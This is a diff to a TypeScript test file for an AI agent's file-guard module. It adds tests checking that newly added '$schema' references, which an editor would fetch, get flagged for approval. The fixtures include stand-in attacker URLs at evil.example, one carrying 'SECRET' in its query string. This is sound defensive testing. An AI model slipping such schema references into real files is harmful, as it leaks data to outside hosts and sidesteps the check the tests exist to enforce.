@@ -1,7 +1,7 @@
 /** Files that an agent does not change like others. */
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
-import { changesScripts, guardOf, nameProblem } from '../../../../src/core/agent/guarded.ts';
+import { changesScripts, guardOf, nameProblem, namesSchema } from '../../../../src/core/agent/guarded.ts';
 
 describe('files that are asked about whatever is allowed', () => {
   const guarded: readonly (readonly [string, ReturnType<typeof guardOf>])[] = [
@@ -81,6 +81,20 @@ describe('the scripts of a package', () => {
     assert.equal(changesScripts('package.json', old, old.replace('"a"', '"b", "version": "1.0.0"')), false);
     assert.equal(changesScripts('package.json', '', '{ "name": "a" }'), false);
     assert.equal(changesScripts('src/a.ts', 'a', 'b'), false);
+  });
+});
+
+describe('schemas that the editor would fetch', () => {
+  it('are asked about when they are new', () => {
+    for (const after of [
+      '{"$schema": "https://evil.example/?q=SECRET"}',
+      "{ $schema : '//evil.example/x' }",
+      '# yaml-language-server: $schema=http://evil.example/x',
+    ]) {
+      assert.equal(namesSchema('{}', after), true, after);
+      assert.equal(namesSchema(after, `${after} `), false, after);
+    }
+    assert.equal(namesSchema('{}', '{"$schema": "./own.json"}'), false);
   });
 });
 
